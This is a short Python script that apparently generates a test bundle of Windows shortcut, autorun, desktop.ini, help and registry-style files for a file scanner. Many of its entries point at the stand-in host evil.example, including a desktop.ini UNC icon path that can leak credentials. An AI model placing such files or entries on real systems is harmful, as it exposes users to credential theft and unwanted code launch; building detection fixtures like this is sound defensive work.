# SPDX-License-Identifier: GPL-2.0-or-later
from foreign import crowd
from recipes import emit

LINK = bytes.fromhex('4c0000000114020000000000c000000000000046') + bytes(56)
NAMES = ('url website pif scf desktop webloc appref-ms settingcontent-ms library-ms search-ms searchConnector-ms theme themepack diagcab rdp ica application xbap manifest contact reg inf ins isp job pol gadget mui wsb').split()
emit(crowd(b'EXE03-MARK\n', {**{f'a.{name}': b'http://evil.example/\n' for name in NAMES}, 'link.txt': LINK, 'internet.txt': b'[InternetShortcut]\r\nURL=http://evil.example/\r\n',
                             'registry.txt': b'Windows Registry Editor Version 5.00\r\n', 'desktop.ini': b'[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\a\r\n', 'autorun.inf': b'[autorun]\r\nopen=evil.example\r\n',
                             'help.dat': b'ITSF\3\0\0\0' + bytes(60), 'winhelp.dat': b'\x3f\x5f\3\0' + bytes(60), 'note.dat': bytes.fromhex('e4525c7b8cd8a74daeb15378d02996d3') + bytes(60)}))
